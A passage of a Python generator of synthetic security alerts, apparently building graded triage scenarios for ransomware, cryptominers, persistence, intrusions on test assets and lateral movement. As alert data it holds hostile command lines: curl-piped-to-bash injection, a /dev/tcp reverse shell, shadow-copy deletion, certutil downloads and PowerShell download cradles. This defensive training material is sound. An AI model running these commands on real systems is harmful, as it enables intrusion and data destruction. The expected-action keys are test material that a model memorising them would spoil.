            description=f"Sysmon - {loader.name} connected to a public address",
            groups=["windows", "sysmon", "sysmon_eid3_detections"],
            techniques=["T1071.001"],
            data=win_event(
                when,
                ws,
                provider="Microsoft-Windows-Sysmon",
                event_id="3",
                message="Network connection detected:",
                eventdata={
                    "image": loader.path,
                    "user": f"{NETBIOS}\\{victim.user}",
                    "protocol": "tcp",
                    "sourceIp": ws.ips[0],
                    "sourcePort": str(s.rng.randint(49152, 65000)),
                    "destinationIp": c2,
                    "destinationPort": "443",
                },
            ),
        )
    else:
        s.alert(
            "falcon-proxy-execution",
            s.at(1),
            crowdstrike_detection,
            ws,
            user=victim.user,
            name="Suspicious Activity",
            description=f"{loader.name} loaded a DLL written moments earlier by an Office "
            "application's child process.",
            level=4,
            proc=loader,
            techniques=[proxy_technique],
            connections=[(c2, 443)],
        )
        s.alert(
            "suricata-c2",
            s.at(3),
            suricata_alert,
            src=ws.ips[0],
            dst=c2,
            dport=443,
            sid=2036333,
            signature="ET MALWARE Win32/IcedID Request Cookie",
            category="A Network Trojan was detected",
            priority=1,
            techniques=["T1071.001"],
            app_proto="http",
            extra={
                "http": {
                    "hostname": c2,
                    "url": f"/{s.hex(10)}",
                    "http_method": "GET",
                    "http_user_agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
                    "protocol": "HTTP/1.1",
                    "status": 200,
                    "length": 512,
                }
            },
        )
    s.case(
        "macro-loader",
        s.refs(),
        "true_positive",
        techniques=["T1204.002", "T1059.003", proxy_technique, "T1071.001"],
        evidence=s.refs(),
        actions=[("isolate_host", ws.hostname), ("block_hash", dll_hash), ("block_ip", c2)],
    )
    forbid_defaults(s)
    s.forbid(("block_hash", SIGNED[app]), ("block_hash", SIGNED[loader.name]))


@template("malware_execution", 3)
def ransomware_precursor(s: Story, i: int) -> None:
    server = asset(FILE_SERVERS[i % 2])
    operator = PEOPLE["sara.lindqvist"] if i != 1 else s.pick(OFFICE_STAFF)
    payload = s.sha256()
    name = s.pick(("svchostx.exe", "wintask.exe", "locker.exe", "sysupd.exe"))
    share = s.pick(("Finance$", "Operations$", "Shared$", "Projects$"))
    s.start(s.night_time() if i != 2 else s.evening_time())
    s.title = f"Ransomware on {server.hostname}: shadow copies deleted, files encrypted"
    s.description = (
        f"Using {operator.user}'s stolen credentials, an operator runs {name} on "
        f"{server.hostname}: it deletes the shadow copies, disables boot recovery, encrypts the "
        f"{share} share and drops ransom notes."
    )
    dropper = Proc(
        f"C:\\ProgramData\\{name}", f"C:\\ProgramData\\{name} -path D:\\Shares", payload, SERVICES
    )
    shell = winproc("cmd.exe", "cmd.exe /c vssadmin.exe delete shadows /all /quiet", dropper)
    vss = winproc("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", shell)
    s.alert(
        "falcon-shadow-delete",
        s.at(0),
        crowdstrike_detection,
        server,
        user=operator.user,
        name="Suspicious Activity",
        description="A process deleted volume shadow copies, which ransomware does to prevent "
        "recovery.",
        level=5,
        proc=vss,
        techniques=["T1490"],
    )
    bcd = winproc("bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No", shell)
    when = s.at(0.5)
    s.alert(
        "wazuh-boot-recovery",
        when,
        wazuh_alert,
        server,
        rule_id="100620",
        level=12,
        description="Boot configuration changed to disable recovery",
        groups=["windows", "sysmon", "sysmon_eid1_detections"],
        techniques=["T1490"],
        data=win_event(
            when,
            server,
            provider="Microsoft-Windows-Sysmon",
            event_id="1",
            message="Process Create:",
            eventdata=sysmon_process(when, bcd, operator.user),
        ),
    )
    s.alert(
        "falcon-ransomware",
        s.at(3),
        crowdstrike_detection,
        server,
        user=operator.user,
        name="Ransomware",
        description="A process rapidly renamed and rewrote many files in network shares and "
        "wrote ransom notes.",
        level=5,
        proc=dropper,
        techniques=["T1486"],
        epp=True,
    )
    note = f"D:\\Shares\\{share.rstrip('$')}\\README_RESTORE_FILES.txt"
    when = s.at(4)
    s.alert(
        "wazuh-ransom-note",
        when,
        wazuh_alert,
        server,
        rule_id="554",
        level=7,
        description="File added to the system.",
        groups=["ossec", "syscheck", "syscheck_entry_added", "syscheck_file"],
        full_log=f"File '{note.lower()}' added\nMode: realtime\n",
        location="syscheck",
        decoder={"name": "syscheck_new_entry"},
        syscheck={
            "path": note.lower(),
            "mode": "realtime",
            "size_after": "2211",
            "sha256_after": s.sha256(),
            "event": "added",
        },
    )
    if i == 1:
        s.alert(
            "defender-ransomware",
            s.at(5),
            defender_alert,
            title="Ransomware behavior detected in the file system",
            level=4,
            description=f"Files on {server.hostname} were encrypted and renamed in bulk.",
            category="Impact",
            techniques=["T1486"],
            evidence=[
                dv_device(server),
                dv_user(operator.user),
                dv_file(name, "C:\\ProgramData", payload),
            ],
        )
    s.case(
        "ransomware",
        s.refs(),
        "true_positive",
        techniques=["T1490", "T1486", "T1059.003"],
        evidence=["falcon-shadow-delete", "falcon-ransomware"],
        actions=[
            ("isolate_host", server.hostname),
            ("block_hash", payload),
            ("disable_user", operator.user),
        ],
    )
    forbid_defaults(s)
    s.forbid(("isolate_host", "SRV-BKP-01"), ("block_hash", SIGNED["vssadmin.exe"]))


@template("malware_execution", 4)
def linux_cryptominer(s: Story, i: int) -> None:
    server = asset(WEB_SERVERS[i % 2])
    attacker, dropper = s.ext_ip(), s.ext_ip()
    pool = (
        s.pick(
            (
                "pool.minexmr-eu",
                "xmr.hashvault-pro",
                "monero.2miners-pool",
                "stratum.supportxmr-node",
            )
        )
        + ".example"
    )
    miner = s.sha256()
    hidden_name = s.pick(("/tmp/.X11-unix/.sshd", "/var/tmp/.cache/kworkerd", "/dev/shm/.x/xmr"))
    s.start(s.pick([s.night_time(), s.workday_time(), s.evening_time()]))
    s.title = f"Web exploit on {server.hostname} installs a Monero miner"
    s.description = (
        f"{attacker} exploits a command injection in the web application on {server.hostname}; "
        f"www-data pipes a script from {dropper} into bash, which installs a miner as "
        f"{hidden_name} mining to {pool}."
    )
    path = f"/cgi-bin/status.php?host=127.0.0.1;curl+-fsSL+http://{dropper}/i.sh|bash"
    when = s.at(0)
    s.alert(
        "wazuh-web-rce",
        when,
        wazuh_alert,
        server,
        rule_id="31106",
        level=6,
        description="A web attack returned code 200 (success).",
        groups=["web", "accesslog", "attack"],
        techniques=["T1190"],
        data={"protocol": "GET", "srcip": attacker, "id": "200", "url": path},
        full_log=f'{attacker} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] "GET {path} HTTP/1.1" 200 '
        '17 "-" "curl/8.5.0"',
        location="/var/log/nginx/access.log",
        decoder={"name": "web-accesslog"},
    )
    web = Proc("/usr/sbin/php-fpm8.3", "php-fpm: pool www")
    bash = Proc(
        "/usr/bin/bash",
        f"bash -c curl -fsSL http://{dropper}/i.sh|bash",
        "8d2a4c6e8b0d1f3a5c7e9b2d4f6a8c0e1b3d5f7a9c2e4b6d8f0a1c3e5b7d9f4e",
        web,
    )
    s.alert(
        "elastic-curl-pipe",
        s.at(1),
        elastic_alert,
        rule="Suspicious Download and Execute via Curl Pipe",
        level=4,
        techniques=["T1105", "T1059.004"],
        description="Identifies a web server process "
        "starting a shell that pipes a downloaded script into an interpreter.",
        host=server,
        user="www-data",
        process=bash,
        reason=f"process event with process bash, parent "
        f"process php-fpm8.3, by www-data on {server.hostname}.",
        event={"category": ["process"], "type": ["start"], "action": "exec"},
    )
    miner_proc = Proc(
        hidden_name,
        f"{hidden_name} -o {pool}:443 -u 4{s.hex(40)} -k --tls --donate-level 1 -B",
        miner,
        bash,
    )
    s.alert(
        "falcon-miner",
        s.at(4),
        crowdstrike_detection,
        server,
        user="www-data",
        name="Cryptomining",
        description="A process with the command line of a cryptocurrency miner started from a "
        "temporary folder.",
        level=4 if i % 2 else 5,
        proc=miner_proc,
        techniques=["T1496"],
        connections=[(s.ext_ip(), 443)],
    )
    s.alert(
        "suricata-pool",
        s.at(5),
        suricata_alert,
        src=server.ips[0],
        dst=DNS_RESOLVER,
        dport=53,
        proto="UDP",
        sid=2033627,
        signature=f"ET COINMINER Observed DNS Query to Cryptocurrency Mining Pool Domain ({pool})",
        category="Crypto Currency Mining Activity Detected",
        priority=1,
        techniques=["T1496"],
        app_proto="dns",
        extra={"dns": {"type": "query", "rrname": pool, "rrtype": "A"}},
    )
    s.case(
        "cryptominer",
        s.refs(),
        "true_positive",
        techniques=["T1190", "T1059.004", "T1105", "T1496"],
        evidence=["wazuh-web-rce", "falcon-miner"],
        actions=[
            ("isolate_host", server.hostname),
            ("block_domain", pool),
            ("block_ip", dropper),
            ("block_hash", miner),
        ],
    )
    forbid_defaults(s)
    s.forbid(("isolate_host", "SRV-DB-01"), ("block_ip", DNS_RESOLVER))


@template("malware_execution", 4)
def lolbin_persistence(s: Story, i: int) -> None:
    victim = s.pick(OFFICE_STAFF)
    ws = laptop(victim)
    host_domain = s.domain()
    payload = s.sha256()
    name = s.pick(("OneDriveSync.exe", "AdobeARMhelper.exe", "TeamsUpdate.exe", "GoogleCrash.exe"))
    task = s.pick(
        (
            "OneDrive Standalone Sync",
            "Adobe Acrobat Update Helper",
            "Microsoft Teams Updater",
            "GoogleUpdateTaskMachine",
        )
    )
    s.start(s.workday_time())
    s.title = f"certutil download and scheduled-task persistence on {ws.hostname}"
    s.description = (
        f"A command on {ws.hostname} uses certutil to download {name} from {host_domain} into "
        f"ProgramData and registers it as the scheduled task '{task}' so it survives reboots."
    )
    shell = winproc("cmd.exe", "cmd.exe /c start.bat", EXPLORER)
    target = f"C:\\ProgramData\\{name}"
    certutil = winproc(
        "certutil.exe",
        f"certutil.exe -urlcache -split -f https://{host_domain}/{s.hex(6)}.txt {target}",
        shell,
    )
    first = ("elastic", "crowdstrike", "defender", "wazuh")[i]
    s.add(
        "edr-certutil",
        s.at(0),
        edr_process(
            first,
            s.at(0),
            ws,
            user=victim.user,
            title="Remote File Download via Certutil",
            description="certutil.exe downloaded a file from the internet, a common way to bring "
            "tools in past controls.",
            level=3,
            proc=certutil,
            techniques=["T1105", "T1140"],
            dropped=(name, "C:\\ProgramData", payload),
        ),
    )
    schtasks = winproc(
        "schtasks.exe",
        f'schtasks.exe /create /sc onlogon /tn "{task}" /tr "{target}" /rl highest /f',
        shell,
    )
    when = s.at(1)
    s.alert(
        "wazuh-scheduled-task",
        when,
        wazuh_alert,
        ws,
        rule_id="100231",
        level=10,
        description="Scheduled task created to run a binary from ProgramData",
        groups=["windows", "sysmon", "sysmon_eid1_detections"],
        techniques=["T1053.005"],
        data=win_event(
            when,
            ws,
            provider="Microsoft-Windows-Sysmon",
            event_id="1",
            message="Process Create:",
            eventdata=sysmon_process(when, schtasks, victim.user),
        ),
    )
    techniques = ["T1105", "T1140", "T1053.005"]
    if i % 2 == 0:
        implant = Proc(target, f'"{target}" /silent', payload, SERVICES)
        s.alert(
            "defender-implant",
            s.at(30),
            defender_alert,
            title="Suspicious scheduled task",
            level=3,
            description=f"A scheduled task named like a legitimate updater runs {name} from "
            "ProgramData.",
            category="Persistence",
            techniques=["T1053.005"],
            evidence=[
                dv_device(ws, users=[victim.user]),
                dv_user(victim.user),
                dv_process(implant, victim.user, s.at(30)),
                dv_file(name, "C:\\ProgramData", payload),
            ],
        )
    else:
        reg = winproc(
            "reg.exe",
            "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion"
            f'\\Run /v "{task}" /t REG_SZ /d "{target}" /f',
            shell,
        )
        s.alert(
            "falcon-run-key",
            s.at(2),
            crowdstrike_detection,
            ws,
            user=victim.user,
            name="Suspicious Activity",
            description="A Run key was added that starts a binary from ProgramData.",
            level=3,
            proc=reg,
            techniques=["T1547.001"],
        )
        # At the next logon the implant itself runs and the sensor's model catches it.
        implant = Proc(target, f'"{target}"', payload, EXPLORER)
        s.alert(
            "falcon-implant",
            s.at(35),
            falcon_ml_detection,
            ws,
            user=victim.user,
            proc=implant,
            sha256=payload,
            level=3,
            confidence="medium",
        )
        techniques.append("T1547.001")
    s.case(
        "lolbin-persistence",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["edr-certutil", "wazuh-scheduled-task"],
        actions=[
            ("isolate_host", ws.hostname),
            ("block_hash", payload),
            ("block_domain", host_domain),
        ],
    )
    forbid_defaults(s)
    s.forbid(("block_hash", SIGNED["certutil.exe"]), ("block_hash", SIGNED["schtasks.exe"]))


@template("malware_execution", 3)
def test_asset_infection(s: Story, i: int) -> None:
    host = asset(("TEST-LT-099", "TEST-SRV-01", "DEV-SRV-02")[i])
    s.difficulty = "hard"
    c2_ip, c2_domain = (C2_LOADER_IP, C2_LOADER_DOMAIN) if i == 0 else (s.ext_ip(), s.domain())
    payload = s.sha256()
    s.start(s.workday_time())
    evidence: list[str] = []
    if i == 0:
        user = "it-qa"
        s.description = (
            f"A tester opens an 'example invoice' from the internet on {host.hostname}, a test "
            f"laptop. It is real malware: the loader of Northwind's feed, beaconing to "
            f"{c2_domain}. A test asset is still a foothold on the network."
        )
        implant = Proc(
            "C:\\Users\\it-qa\\AppData\\Roaming\\invsvc\\invsvc.exe",
            "invsvc.exe -k netsvc",
            payload,
            winproc(
                "powershell.exe",
                "powershell.exe"
                " -nop -w hidden -enc " + encoded("IEX (iwr cdn-update-check.example/a)"),
                EXPLORER,
            ),
        )
        s.alert(
            "falcon-known-malware",
            s.at(0),
            falcon_ml_detection,
            host,
            user=user,
            proc=implant,
            sha256=payload,
            level=5,
        )
        evidence.append("falcon-known-malware")
    elif i == 1:
        attacker = s.ext_ip()
        user = "testadmin"
        s.description = (
            f"{host.hostname}, a test server left with RDP open to the internet and a weak local "
            f"password, is logged into from {attacker}; a loader is run that beacons to "
            f"{c2_domain}. The test environment is reachable from the office network."
        )
        when = s.at(0)
        s.alert(
            "wazuh-rdp-from-internet",
            when,
            wazuh_alert,
            host,
            rule_id="92653",
            level=8,
            description=f"User: {host.hostname}\\{user} logged using Remote Desktop Connection "
            f"(RDP) from ip:{attacker}.",
            groups=["windows", "authentication_success"],
            techniques=["T1021.001", "T1078.003"],
            data=logon_event(
                when,
                host,
                {
                    **logon_data(
                        user, source_ip=attacker, workstation="-", logon_type=10, ntlm=True
                    ),
                    "targetDomainName": host.hostname,
                },
            ),
        )
        implant = Proc(
            "C:\\Users\\Public\\svc.exe",
            "C:\\Users\\Public\\svc.exe",
            payload,
            winproc(
                "powershell.exe",
                "powershell.exe -c iwr http://"
                f"{c2_ip}/svc.exe -o C:\\Users\\Public\\svc.exe; "
                "C:\\Users\\Public\\svc.exe",
                EXPLORER,
            ),
        )
        s.alert(
            "falcon-loader",
            s.at(6),
            crowdstrike_detection,
            host,
            user=user,
            name="Suspicious Activity",
            description="PowerShell downloaded an executable into a public folder and ran it.",
            level=4,
            proc=implant,
            techniques=["T1105", "T1059.001"],
        )
        evidence += ["wazuh-rdp-from-internet", "falcon-loader"]
    else:
        user = "ci-runner"
        s.description = (
            f"A leaked CI token lets an attacker run a job on {host.hostname}, a development "
            f"server; the job opens a reverse shell to {c2_ip} and downloads a tool from "
            f"{c2_domain}."
        )
        shell = Proc(
            "/usr/bin/bash",
            f"bash -c 'bash -i >& /dev/tcp/{c2_ip}/443 0>&1'",
            SIGNED["curl"],
            Proc("/usr/bin/gitlab-runner", "gitlab-runner run"),
        )
        s.alert(
            "elastic-reverse-shell",
            s.at(0),
            elastic_alert,
            rule="Potential Reverse Shell via /dev/tcp",
            level=4,
            techniques=["T1059.004"],
            description="Identifies bash redirecting its input and "
            "output to a TCP connection, a reverse shell.",
            host=host,
            user=user,
            process=shell,
            reason=f"process event with process bash by {user} on {host.hostname}.",
            destination={"ip": c2_ip, "port": 443},
            event={"category": ["process"], "type": ["start"], "action": "exec"},
        )
        tool = Proc("/tmp/.k/agent", "/tmp/.k/agent -d", payload, shell)
        s.alert(
            "falcon-tool",
            s.at(3),
            crowdstrike_detection,
            host,
            user=user,
            name="Suspicious Activity",
            description="A file "
            "downloaded to /tmp by an interactive shell was made executable and run.",
            level=4,
            proc=tool,
            techniques=["T1105"],
            ioc=("domain", c2_domain),
            connections=[(c2_ip, 443)],
        )
        evidence += ["elastic-reverse-shell", "falcon-tool"]
    s.title = f"Real intrusion on the {host.environment} asset {host.hostname}"
    s.alert("suricata-c2", s.at(8), beacon, host, c2_ip, c2_domain, known=i == 0)
    s.case(
        "test-asset-intrusion",
        s.refs(),
        "true_positive",
        techniques={
            0: ["T1204.002", "T1059.001", "T1071.001"],
            1: ["T1078.003", "T1021.001", "T1105", "T1071.001"],
            2: ["T1059.004", "T1105", "T1071.001"],
        }[i],
        evidence=[*evidence, "suricata-c2"],
        actions=[
            ("isolate_host", host.hostname),
            ("block_hash", payload),
            ("block_ip", c2_ip),
            ("block_domain", c2_domain),
        ],
    )
    forbid_defaults(s)
    s.forbid(("block_hash", SIGNED["powershell.exe"]))


@template("malware_execution", 4)
def edr_blocked_download(s: Story, i: int) -> None:
    victim = s.pick(STANDARD_STAFF)
    ws = laptop(victim)
    payload = s.sha256()
    software = s.pick(
        (
            "PDFConverterPro",
            "WinRAR_Keygen",
            "Photoshop_2026_crack",
            "FreeVPN_Setup",
            "TruckRoute_Planner_full",
        )
    )
    name = f"{software}.exe"
    folder = f"C:\\Users\\{victim.user}\\Downloads"
    s.start(s.workday_time())
    s.title = f"Trojan download {name} blocked on {ws.hostname}"
    s.description = (
        f"{victim.name} downloads {name} from a file-sharing site in Chrome and starts it; the "
        "EDR recognizes it as a trojan and kills and quarantines it before it does anything."
    )
    chrome = winproc("chrome.exe", '"chrome.exe" --type=renderer', EXPLORER)
    sample = Proc(f"{folder}\\{name}", f'"{folder}\\{name}"', payload, chrome)
    s.alert(
        "falcon-prevented",
        s.at(0),
        falcon_ml_detection,
        ws,
        user=victim.user,
        proc=sample,
        sha256=payload,
        level=4,
        prevented=True,
    )
    if i != 2:
        s.alert(
            "defender-prevented",
            s.at(1),
            defender_alert,
            title="'Wacatac' malware was prevented",
            level=3,
            description=f"Microsoft Defender Antivirus prevented {name} from running.",
            category="Malware",
            techniques=["T1204.002"],
            threat="Trojan:Win32/Wacatac.B!ml",
            evidence=[
                dv_device(ws, users=[victim.user]),
                dv_user(victim.user),
                dv_file(name, folder, payload),
                dv_process(sample, victim.user, s.at(1)),
            ],
        )
    s.case(
        "blocked-trojan",
        s.refs(),
        "true_positive",
        techniques=["T1204.002"],
        evidence=["falcon-prevented"],
        actions=[("block_hash", payload)],
    )
    forbid_defaults(s)
    s.forbid(("block_hash", SIGNED["chrome.exe"]), ("block_hash", SIGNED["explorer.exe"]))


def definitions_failure(at: datetime, host: Asset) -> Record:
    """Routine noise: Defender could not update its definitions (a proxy problem)."""
    return wazuh_alert(
        at,
        host,
        rule_id="62152",
        level=5,
        description="Windows Defender: antimalware definitions update failed.",
        groups=["windows", "windows_defender"],
        data=win_event(
            at,
            host,
            provider="Microsoft-Windows-Windows Defender",
            event_id="2001",
            channel="Microsoft-Windows-Windows Defender/Operational",
            message="The antimalware definitions update failed.",
            eventdata={
                "errorCode": "0x80072efd",
                "updateType": "Full",
                "sourcePath": "Microsoft Update Server",
                "errorDescription": "A connection with the server could not be established",
            },
        ),
    )


@template("malware_execution", 3)
def malware_among_noise(s: Story, i: int) -> None:
    noisy: list[Person] = s.sample(OFFICE_STAFF, 3)
    victim = noisy[i % 3]
    ws = laptop(victim)
    c2 = s.ext_ip()
    domain = s.domain()
    payload = s.sha256()
    s.difficulty = "hard"
    day = s.pick(WORKDAYS[6:])
    s.start(clock(day, s.rng.randint(9, 15), s.rng.randint(0, 59)))
    s.title = f"Download cradle on {ws.hostname} among three days of definition-update failures"
    s.description = (
        f"Since a proxy change three days ago, {', '.join(p.laptop or '' for p in noisy)} "
        "report every few hours that Defender could not update its definitions. Among that "
        f"noise, a PowerShell download cradle runs on {ws.hostname} and beacons to {domain}."
    )
    noise: list[str] = []
    for person in noisy:
        offset = -72 * 60 + s.rng.randint(0, 120)
        k = 0
        while offset < 60:
            k += 1
            when = s.at(offset)
            noise.append(
                s.alert(f"noise-{person.laptop}-{k:02d}", when, definitions_failure, laptop(person))
            )
            offset += s.rng.randint(4 * 60, 6 * 60)
    cradle = winproc(
        "powershell.exe",
        f'powershell.exe -w hidden -c "iex(iwr -useb https://{domain}/{s.hex(5)})"',
        winproc("cmd.exe", "cmd.exe /c", EXPLORER),
    )
    s.alert(
        "falcon-cradle",
        s.at(5),
        crowdstrike_detection,
        ws,
        user=victim.user,
        name="Suspicious Activity",
        description="PowerShell downloaded and ran a script in memory (download cradle).",
        level=4,
        proc=cradle,
        techniques=["T1059.001", "T1105"],
        ioc=("domain", domain),
    )
    implant = Proc(
        f"C:\\Users\\{victim.user}\\AppData\\Local\\{s.hex(6)}.exe", "implant", payload, cradle
    )
    s.add(
        "defender-implant",
        s.at(6),
        edr_process(
            "defender",
            s.at(6),
            ws,
            user=victim.user,
            title="Suspicious file dropped and launched",
            description="PowerShell wrote an executable to a user-writable folder and started it.",
            level=4,
            proc=implant,
            techniques=["T1105", "T1204.002"],
            dropped=(implant.name, implant.folder, payload),
        ),
    )
    s.alert("suricata-c2", s.at(9), beacon, ws, c2, domain, known=False)
    s.case(
        "intrusion",
        ["falcon-cradle", "defender-implant", "suricata-c2"],
        "true_positive",
        techniques=["T1059.001", "T1105", "T1071.001"],
        evidence=["falcon-cradle", "suricata-c2"],
        actions=[
            ("isolate_host", ws.hostname),
            ("block_domain", domain),
            ("block_ip", c2),
            ("block_hash", payload),
        ],
    )
    s.case("definition-update-failures", noise, "benign_positive", evidence=noise[:1])
    forbid_defaults(s)
    s.forbid(
        ("block_hash", SIGNED["powershell.exe"]),
        *(("isolate_host", p.laptop or "") for p in noisy if p is not victim),
    )


# ============================================================================================
# lateral_movement
# ============================================================================================


def psexec_copy(at: datetime, src: Asset, dst: Asset) -> Record:
    """Suricata: PSEXESVC.exe written to ADMIN$ over SMB2."""
    return suricata_alert(
        at,
        src=src.ips[0],
        dst=dst.ips[0],
        dport=445,
        sid=2027237,
        signature="ET POLICY PsExec service binary copied to ADMIN$ share over SMB2",
        category="Potential Corporate Privacy Violation",
        priority=1,
        techniques=["T1021.002"],
        app_proto="smb",
        signature_severity="Informational",
        extra={
            "smb": {
                "dialect": "3.1.1",
                "command": "SMB2_COMMAND_CREATE",
                "status": "STATUS_SUCCESS",
                "filename": "PSEXESVC.exe",
                "disposition": "FILE_OVERWRITE_IF",
                "share": f"\\\\{dst.hostname}\\ADMIN$",
            }
        },
    )


def ntlm_logon(at: datetime, dst: Asset, user: str, src: Asset) -> Record:
    """Wazuh: a network logon with NTLM (rule 92652, "possible pass-the-hash")."""
    return wazuh_alert(
        at,
        dst,
        rule_id="92652",
        level=6,
        description=f"Successful Remote Logon Detected - User:\\{NETBIOS}\\{user} - NTLM "
        "authentication, possible pass-the-hash attack.",
        groups=["win_evt_channel", "windows", "authentication_success"],
        techniques=["T1550.002", "T1078.002"],
        data=logon_event(at, dst, logon_data(user, source_ip=src.ips[0], workstation=src.hostname)),
    )


def psexesvc_shell(at: datetime, dst: Asset, user: str, command: str) -> Record:
    """Wazuh: PSEXESVC.exe started a shell (Sysmon event 1)."""
    shell = winproc("cmd.exe", command, winproc("PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe"))
    return wazuh_alert(
        at,
        dst,
        rule_id="100210",
        level=12,
        description="PsExec service (PSEXESVC.exe) started a command shell: possible lateral "
        "movement",
        groups=["local", "sysmon", "sysmon_eid1_detections", "windows"],
        techniques=["T1569.002", "T1021.002"],
        data=win_event(
            at,
            dst,
            provider="Microsoft-Windows-Sysmon",
            event_id="1",
            message="Process Create:",
            eventdata=sysmon_process(at, shell, user),
        ),
    )


def defender_psexec(at: datetime, dst: Asset, src: Asset, user: str) -> Record:
    service = winproc("PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", SERVICES)
    return defender_alert(
        at,
        title="PsExec launched a command on a remote device",
        level=4,
        description="PsExec was used from another device to create a service and run a command "
        "on this device. Attackers use PsExec with stolen credentials to move laterally.",
        category="LateralMovement",
        techniques=["T1021.002", "T1569.002"],
        evidence=[
            dv_device(dst, roles=("compromised", "destination"), users=[user]),
            dv_device(src, roles=("source",)),
            dv_user(user),
            dv_process(service, user, at),
            dv_ip(src.ips[0]),
        ],
    )


def rdp_logon_alert(at: datetime, server: Asset, user: str, src: Asset) -> Record:
    """Elastic: interactive logon to a server (low; admins do it all day)."""
    return elastic_alert(
        at,
        rule="Interactive Logon to a Server",
        level=2,
        techniques=["T1078"],
        description="Identifies an interactive or remote-interactive Windows logon (logon type "
        "2 or 10) to a server. Administrators do this routinely; review logons by accounts that "
        "do not manage the server.",
        rule_type="query",
        host=server,
        user=user,
        reason=f"authentication event by {user} on {server.hostname} created low alert "
        "Interactive Logon to a Server.",
        source={"ip": src.ips[0]},
        event={
            "category": ["authentication"],
            "type": ["start"],
            "action": "logged-in",
            "code": "4624",
            "outcome": "success",
            "dataset": "system.security",
            "module": "system",
        },
    )


@template("lateral_movement", 5)
def psexec_stolen_credentials(s: Story, i: int) -> None:
    user = s.pick(OFFICE_STAFF)
    ws = laptop(user)
    server = asset(s.pick(FILE_SERVERS + APP_SERVERS))
    share = s.pick(("Finance$", "Operations$", "Shared$", "HR$"))
    s.start(s.workday_time() if i != 4 else s.evening_time())
    s.title = f"PsExec with {user.name}'s credentials from {ws.hostname} to {server.hostname}"
    s.description = (
        f"An attacker on {ws.hostname} uses {user.user}'s credentials (NTLM, pass-the-hash) to "
        f"run PsExec against {server.hostname}, which {user.first} has no business on, and "
        f"explores the {share} share."
    )
    techniques = ["T1021.002", "T1569.002", "T1550.002"]
    if i in (1, 3):
        net = winproc(
            "net.exe",
            f"net.exe view \\\\{server.hostname} /all",
            winproc("cmd.exe", "cmd.exe", EXPLORER),
        )
        s.add(
            "elastic-share-discovery",
            s.at(-6),
            edr_process(
                "elastic",
                s.at(-6),
                ws,
                user=user.user,
                title="Network Share Discovery via net.exe",
                description="net.exe listed the shares of a server.",
                level=2,
                proc=net,
                techniques=["T1135"],
            ),
        )
        techniques.append("T1135")
    s.alert("suricata-psexec", s.at(0), psexec_copy, ws, server)
    s.alert("wazuh-ntlm-logon", s.at(0.2), ntlm_logon, server, user.user, ws)
    s.alert(
        "wazuh-psexec-shell",
        s.at(0.5),
        psexesvc_shell,
        server,
        user.user,
        f'cmd.exe /c "whoami /all & net share & dir \\\\{server.hostname}\\{share}"',
    )
    if i % 2 == 0:
        s.alert("defender-psexec", s.at(2), defender_psexec, server, ws, user.user)
    s.case(
        "lateral-movement",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["suricata-psexec", "wazuh-psexec-shell"],
        actions=[
            ("isolate_host", ws.hostname),
            ("isolate_host", server.hostname),
            ("disable_user", user.user),
        ],
    )
    forbid_defaults(s)
    s.forbid(("block_hash", SIGNED["PSEXESVC.exe"]), ("block_hash", SIGNED["cmd.exe"]))


@template("lateral_movement", 4)
def wmi_remote_execution(s: Story, i: int) -> None:
    user = s.pick(OFFICE_STAFF)
    ws = laptop(user)
    server = asset(s.pick(FILE_SERVERS + APP_SERVERS))
    s.start(s.workday_time())
    s.title = f"WMI remote execution from {ws.hostname} on {server.hostname}"
    s.description = (
        f"An attacker on {ws.hostname} uses wmic with {user.user}'s credentials to start an "
        f"encoded PowerShell on {server.hostname}."
    )
    payload = "powershell -nop -w hidden -enc " + encoded(
        "$c=New-Object Net.Sockets.TCPClient('" + ws.ips[0] + "',8443)"
    )
    wmic = winproc(
        "wmic.exe",
        f'wmic.exe /node:{server.hostname} process call create "{payload}"',
        winproc("cmd.exe", "cmd.exe", EXPLORER),
    )
    s.alert(
        "falcon-wmic",
        s.at(0),
        crowdstrike_detection,
        ws,
        user=user.user,
        name="Suspicious Activity",
        description="wmic.exe created a process on a remote host.",
        level=4,
        proc=wmic,
        techniques=["T1047"],
    )
    remote = winproc(
        "powershell.exe",
        payload,
        Proc(
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
        ),
    )
    s.alert(
        "elastic-wmi-child",
        s.at(0.5),
        elastic_alert,
        rule="Remote Execution via WMI",
        level=4,
        techniques=["T1047", "T1059.001"],
        description="Identifies WmiPrvSE.exe starting a process after a remote WMI call.",
        host=server,
        user=user.user,
        process=remote,
        reason=f"process event with process powershell.exe, parent process WmiPrvSE.exe, by "
        f"{user.user} on {server.hostname}.",
        source={"ip": ws.ips[0]},
        event={"category": ["process"], "type": ["start"], "action": "start"},
    )
    if i % 2 == 0:
        s.alert("wazuh-network-logon", s.at(0.1), ntlm_logon, server, user.user, ws)
    if i == 2:
        s.alert(
            "defender-wmi",
            s.at(2),
            defender_alert,
            title="Suspicious WMI process creation",
            level=3,
            description="A process was created through WMI from another device.",
            category="Execution",
            techniques=["T1047"],
            evidence=[
                dv_device(server),
                dv_device(ws, roles=("source",)),
                dv_user(user.user),
                dv_process(remote, user.user, s.at(2)),
            ],
        )
    s.case(
        "wmi-lateral-movement",
        s.refs(),
        "true_positive",
        techniques=["T1047", "T1059.001"],
        evidence=["falcon-wmic", "elastic-wmi-child"],
        actions=[
            ("isolate_host", ws.hostname),
            ("isolate_host", server.hostname),
            ("disable_user", user.user),
        ],
    )
    forbid_defaults(s)
    s.forbid(("block_hash", SIGNED["wmic.exe"]), ("block_hash", SIGNED["powershell.exe"]))


@template("lateral_movement", 4)
def rdp_pivot(s: Story, i: int) -> None:
    user = s.pick(OFFICE_STAFF)
    ws = laptop(user)
    servers = [
        asset(h)
        for h in s.sample(
            ("SRV-APP-03", "SRV-APP-04", "SRV-FS-01", "SRV-FS-02", "SRV-JUMP-01"), 2 + i % 2
        )
    ]
    s.start(s.evening_time())
    s.title = f"{user.name}'s account hops by RDP across {len(servers)} servers in the evening"
    s.description = (
